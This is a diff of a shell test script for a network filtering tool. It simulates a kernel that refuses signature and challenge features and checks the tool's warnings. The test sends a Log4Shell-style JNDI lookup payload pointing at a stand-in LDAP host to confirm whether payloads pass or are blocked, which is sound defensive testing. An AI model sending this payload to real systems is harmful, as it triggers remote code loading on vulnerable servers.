@@ -183,11 +183,12 @@ daemon_end
 is "the daemon ends well" "$code" 0
 sw detach --all -q
 
-# ---- a kernel that refuses the program for payloads
+# ---- a kernel that refuses what is no must, made to look so
 
-export SCANWALL_WITHOUT_SIGNATURES=1
-expect 0 "attach goes on without it" sw attach net1 --mode enforce
-says "and says so" 'signatures are off: this kernel refused'
+export SCANWALL_REFUSED='respond challenge answer'
+expect 0 "attach goes on without them" sw attach net1 --mode enforce
+says "and says so" '^signatures are off: this kernel refused' '^challenges are off: this kernel refused' \
+	'^what services refuse is not noticed: '
 expect 0 "rules load" sw rules load
 says "says so as well" 'signatures are off'
 new_self
@@ -195,7 +196,7 @@ check "payloads pass" ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
 new_self
 scan "$source4" "$target4" -sS >/dev/null
 check "scanners are blocked all the same" cut4
-unset SCANWALL_WITHOUT_SIGNATURES
+unset SCANWALL_REFUSED
 sw attach net1 -q
 new_self
 check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
